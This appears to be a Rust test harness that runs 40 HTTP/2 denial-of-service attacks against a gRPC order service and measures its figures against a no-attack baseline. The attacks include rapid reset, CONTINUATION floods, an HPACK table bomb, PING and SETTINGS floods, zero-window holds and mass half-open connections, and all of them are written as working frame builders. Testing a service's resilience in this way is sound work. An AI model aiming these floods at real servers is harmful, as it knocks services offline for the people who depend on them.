//! The attacks: a table of names and frames.

use std::pin::Pin;
use std::rc::Rc;

use loms::grpc::proto::{OrderInfoRequest, StocksInfoRequest};
use tokio::time::sleep_until;

use super::attacker::{Attacker, Peer};
use super::calls;
use super::frames::{
    ACK, Block, CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, INITIAL_WINDOW_SIZE,
    LONGEST, PING, PREFACE, PRIORITY, SETTINGS, message, stream,
};

/// An attack.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) about: &'static str,
    way: Way,
}

/// Adds the frames of one repetition, by its number on the connection.
type Unit = fn(u32, &mut Frames);

/// What an attack does.
#[derive(Clone, Copy, Debug)]
enum Way {
    /// Nothing: the figures without an attack.
    Nothing,
    /// Two connections repeat these frames. A new one replaces one that is closed.
    Flood(Unit),
    /// The same, and they never read.
    DeafFlood(Unit),
    /// This number of connections, each with this number of streams, stays open.
    Hold(u32, u32, Unit),
    /// The same, with a window of 0 for the answers.
    HoldWithoutWindow(u32, u32, Unit),
    /// This number of connections sends these bytes and stays open.
    Silent(u32, fn() -> Vec<u8>),
    /// Calls of a correct client.
    Calls(fn(Rc<Attacker>) -> Calls),
}

type Calls = Pin<Box<dyn Future<Output = ()>>>;

const CREATE: &str = "/loms.LOMS/OrderCreate";
const INFO: &str = "/loms.LOMS/OrderInfo";
const STOCK: &str = "/loms.LOMS/StocksInfo";
const WATCH: &str = "/grpc.health.v1.Health/Watch";

/// How many connections a flood has.
const FLOODS: usize = 2;

const fn attack(name: &'static str, about: &'static str, way: Way) -> Attack {
    Attack { name, about, way }
}

/// All attacks, in the order in which they run.
pub(crate) const ATTACKS: [Attack; 40] = [
    attack("nothing", "no attack", Way::Nothing),
    // What one peer holds.
    attack("announced", "calls that announce 4 MiB", Way::Hold(1, 20_000, announced)),
    attack("announced-wide", "the same, on 200 connections", Way::Hold(200, 250, announced)),
    attack("window-zero", "answers that nobody takes", Way::HoldWithoutWindow(1, 50_000, info)),
    attack(
        "window-zero-wide",
        "the same, on 200 connections",
        Way::HoldWithoutWindow(200, 250, info),
    ),
    attack("watches", "100,000 watches of the health", Way::Hold(1, 100_000, watch)),
    attack("watches-wide", "50,000 on 200 connections", Way::Hold(200, 250, watch)),
    attack("half-open", "20,000 calls without a message", Way::Hold(1, 20_000, headers)),
    attack("half-open-wide", "50,000 on 200 connections", Way::Hold(200, 250, headers)),
    attack(
        "open-bodies",
        "16,000 messages of 60 KB that never end, on 64 connections",
        Way::Calls(|attacker| Box::pin(calls::open_bodies(attacker))),
    ),
    attack("silent", "2,000 connections that send nothing", Way::Silent(2_000, Vec::new)),
    attack("half-preface", "2,000 with half a preface", Way::Silent(2_000, half_preface)),
    attack("half-frame", "2,000 with half a frame", Way::Silent(2_000, half_frame)),
    attack("open-headers", "2,000 with an open header block", Way::Silent(2_000, open_headers)),
    attack("connections", "6,000 connections, more than the limit", Way::Silent(6_000, start)),
    // What one peer makes the server do.
    attack("rapid-reset", "calls that are cancelled at once", Way::Flood(reset)),
    attack("reset-whole", "whole calls that are cancelled at once", Way::Flood(reset_whole)),
    attack("server-resets", "streams that the server must reset", Way::Flood(malformed)),
    attack("too-many-streams", "calls beyond the limit of streams", Way::Flood(headers)),
    attack("ping-acks", "answers to no PING", Way::Flood(ping_ack)),
    attack("ping", "PINGs", Way::Flood(ping)),
    attack("ping-deaf", "PINGs whose answers nobody reads", Way::DeafFlood(ping)),
    attack("settings", "empty SETTINGS", Way::Flood(settings)),
    attack("settings-deaf", "SETTINGS whose answers nobody reads", Way::DeafFlood(settings)),
    attack("settings-windows", "new windows for 250 open streams", Way::Flood(settings_windows)),
    attack("settings-acks", "answers to no SETTINGS", Way::Flood(settings_ack)),
    attack("window-updates", "windows that grow byte by byte", Way::Flood(window_update)),
    attack("continuation", "a header block without an end", Way::Flood(continuation)),
    attack("continuation-empty", "the same, in empty frames", Way::Flood(continuation_empty)),
    attack("hpack-table", "4 KB of the table, 16,000 times a frame", Way::Flood(hpack_table)),
    attack("hpack-index", "huge indexes into the table", Way::Flood(hpack_index)),
    attack("hpack-sizes", "new sizes of the table", Way::Flood(hpack_sizes)),
    attack("empty-data", "empty DATA frames", Way::Flood(empty_data)),
    attack("tiny-data", "DATA frames of one byte", Way::Flood(tiny_data)),
    attack("priority", "PRIORITY frames", Way::Flood(priority)),
    attack("unknown-frames", "frames of an unknown type", Way::Flood(unknown)),
    // Calls that a client may make.
    attack(
        "hang-ups",
        "bursts of 200 cancelled calls beside calls that must not fail",
        Way::Calls(|attacker| Box::pin(calls::hang_ups(attacker))),
    ),
    attack(
        "in-flight",
        "one connection with 10,000 calls in flight",
        Way::Calls(|attacker| Box::pin(calls::in_flight(attacker))),
    ),
    attack(
        "empty-items",
        "messages of 30,000 empty items",
        Way::Calls(|attacker| Box::pin(calls::empty_items(attacker))),
    ),
    attack(
        "unknown-skus",
        "5,000 creates of 1,000 unknown SKUs each",
        Way::Calls(|attacker| Box::pin(calls::unknown_skus(attacker))),
    ),
];

impl Attack {
    /// Attacks until the time is over.
    pub(crate) async fn run(self, attacker: &Rc<Attacker>) {
        match self.way {
            Way::Nothing => sleep_until(attacker.until).await,
            Way::Flood(unit) => floods(attacker, false, unit).await,
            Way::DeafFlood(unit) => floods(attacker, true, unit).await,
            Way::Hold(connections, each, unit) => {
                hold(attacker, connections, &[], each, unit).await;
            }
            Way::HoldWithoutWindow(connections, each, unit) => {
                hold(attacker, connections, &[(INITIAL_WINDOW_SIZE, 0)], each, unit).await;
            }
            Way::Silent(connections, bytes) => {
                let bytes = bytes();
                let mut open = Vec::new();
                for _ in 0..connections {
                    let Some(mut peer) = Peer::open(attacker, false).await else { break };
                    peer.send(&bytes).await;
                    open.push(peer);
                }
                sleep_until(attacker.until).await;
            }
            Way::Calls(calls) => calls(Rc::clone(attacker)).await,
        }
    }

    /// Whether it is one. Then it must have sent something.
    pub(crate) fn sends(self) -> bool {
        !matches!(self.way, Way::Nothing)
    }
}

async fn floods(attacker: &Rc<Attacker>, deaf: bool, unit: Unit) {
    let [first, second]: [_; FLOODS] = std::array::from_fn(|_| flood(attacker, deaf, unit));
    tokio::join!(first, second);
}

async fn flood(attacker: &Rc<Attacker>, deaf: bool, unit: Unit) {
    while let Some(mut peer) = Peer::open(attacker, deaf).await {
        let mut frames = Frames::start(&[]);
        let mut number = 0;
        loop {
            while !frames.is_full() {
                unit(number, &mut frames);
                number += 1;
            }
            if !peer.send(&frames.0).await {
                // What the server said before it closed the connection is read.
                peer.has_ended(u64::MAX, attacker.time_left()).await;
                break;
            }
            frames.0.clear();
            // The reader of this thread must have its turn.
            tokio::task::yield_now().await;
        }
    }
}

async fn hold(
    attacker: &Rc<Attacker>,
    connections: u32,
    settings: &[(u16, u32)],
    each: u32,
    unit: Unit,
) {
    let mut open = Vec::new();
    for _ in 0..connections {
        let Some(mut peer) = Peer::open(attacker, false).await else { break };
        let mut frames = Frames::start(settings);
        for number in 0..each {
            unit(number, &mut frames);
            if frames.is_full() && !peer.send(&frames.0).await {
                break;
            } else if frames.is_full() {
                frames.0.clear();
            }
        }
        peer.send(&frames.0).await;
        open.push(peer);
    }
    sleep_until(attacker.until).await;
}

/// Headers of a call that waits for its message.
fn open_call(path: &str, number: u32, frames: &mut Frames) {
    frames.add(HEADERS, END_HEADERS, stream(number), &Block::call(path).0);
}

fn headers(number: u32, frames: &mut Frames) {
    open_call(CREATE, number, frames);
}

fn announced(number: u32, frames: &mut Frames) {
    headers(number, frames);
    frames.add(DATA, 0, stream(number), &[0, 0, 0x40, 0, 0]);
}

fn info(number: u32, frames: &mut Frames) {
    let request = message(&OrderInfoRequest { order_id: 1 });
    frames.add_request(stream(number), &Block::call(INFO), &request);
}

fn watch(number: u32, frames: &mut Frames) {
    frames.add_request(stream(number), &Block::call(WATCH), &[0; 5]);
}

fn start() -> Vec<u8> {
    Frames::start(&[]).0
}

fn half_preface() -> Vec<u8> {
    PREFACE[..PREFACE.len() / 2].to_vec()
}

fn half_frame() -> Vec<u8> {
    let mut frames = Frames::start(&[]);
    frames.add(HEADERS, END_HEADERS, 1, &[0; LONGEST]);
    frames.0.truncate(frames.0.len() - LONGEST / 2);
    frames.0
}

fn open_headers() -> Vec<u8> {
    let mut frames = Frames::start(&[]);
    frames.add(HEADERS, 0, 1, &Block::call(STOCK).0);
    frames.add(CONTINUATION, 0, 1, &long_field().0);
    frames.0
}

/// A field of nearly a whole frame.
fn long_field() -> Block {
    let mut block = Block::default();
    block.add(b"long", &[b'v'; LONGEST - 200]);
    block
}

fn reset(number: u32, frames: &mut Frames) {
    headers(number, frames);
    frames.add_reset(stream(number));
}

fn reset_whole(number: u32, frames: &mut Frames) {
    let request = message(&StocksInfoRequest { sku: 1 });
    frames.add_request(stream(number), &Block::call(STOCK), &request);
    frames.add_reset(stream(number));
}

/// HTTP/2 forbids this field: the server resets the stream, but not the connection.
fn malformed(number: u32, frames: &mut Frames) {
    let mut block = Block::call(STOCK);
    block.add(b"connection", b"close");
    frames.add(HEADERS, END_HEADERS | END_STREAM, stream(number), &block.0);
}

fn ping(_number: u32, frames: &mut Frames) {
    frames.add(PING, 0, 0, &[7; 8]);
}

fn ping_ack(_number: u32, frames: &mut Frames) {
    frames.add(PING, ACK, 0, &[7; 8]);
}

fn settings(_number: u32, frames: &mut Frames) {
    frames.add(SETTINGS, 0, 0, &[]);
}

fn settings_ack(_number: u32, frames: &mut Frames) {
    frames.add(SETTINGS, ACK, 0, &[]);
}

/// Each change of the initial window changes the window of every open stream.
fn settings_windows(number: u32, frames: &mut Frames) {
    if number < 250 {
        return headers(number, frames);
    }
    let size = if number.is_multiple_of(2) { 0 } else { 65_535_u32 };
    let setting = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &size.to_be_bytes()].concat();
    frames.add(SETTINGS, 0, 0, &setting);
}

fn window_update(number: u32, frames: &mut Frames) {
    match number {
        0 => headers(0, frames),
        _ => frames.add_window(stream(0), 1),
    }
}

fn continuation(number: u32, frames: &mut Frames) {
    match number {
        0 => frames.add(HEADERS, 0, stream(0), &Block::call(STOCK).0),
        _ => frames.add(CONTINUATION, 0, stream(0), &long_field().0),
    }
}

fn continuation_empty(number: u32, frames: &mut Frames) {
    match number {
        0 => continuation(0, frames),
        _ => frames.add(CONTINUATION, 0, stream(0), &[]),
    }
}

fn hpack_table(number: u32, frames: &mut Frames) {
    let mut block = Block::call(STOCK);
    if number == 0 {
        block.add_kept(b"bomb", &[b'v'; 4_000]);
    }
    while block.0.len() < LONGEST {
        // The newest field that was kept; 61 fields are static.
        block.add_indexed(62);
    }
    frames.add(HEADERS, END_HEADERS | END_STREAM, stream(number), &block.0);
}

fn hpack_index(number: u32, frames: &mut Frames) {
    let mut block = Block::call(STOCK);
    block.add_indexed(u64::MAX >> (number % 60));
    frames.add(HEADERS, END_HEADERS | END_STREAM, stream(number), &block.0);
}

fn hpack_sizes(number: u32, frames: &mut Frames) {
    let mut block = Block::default();
    for size in [0, 4_096] {
        block.add_table_size(size);
    }
    block.0.extend(Block::call(STOCK).0);
    block.add_kept(b"kept", &[b'v'; 100]);
    frames.add(HEADERS, END_HEADERS | END_STREAM, stream(number), &block.0);
}

fn empty_data(number: u32, frames: &mut Frames) {
    match number {
        0 => headers(0, frames),
        _ => frames.add(DATA, 0, stream(0), &[]),
    }
}

/// One message of 60,000 bytes after another, on one stream after another.
fn tiny_data(number: u32, frames: &mut Frames) {
    let (call, byte) = (number / 60_000, number % 60_000);
    match byte {
        0 => {
            headers(call, frames);
            frames.add(DATA, 0, stream(call), &[0, 0, 0, 0xEA, 0x5A]);
        }
        59_999 => frames.add_reset(stream(call)),
        _ => frames.add(DATA, 0, stream(call), &[0]),
    }
}

fn priority(number: u32, frames: &mut Frames) {
    frames.add(PRIORITY, 0, stream(number), &[0, 0, 0, 0, 16]);
}

fn unknown(number: u32, frames: &mut Frames) {
    frames.add(0xEE, 0, stream(number % 100), &[7; 100]);
}
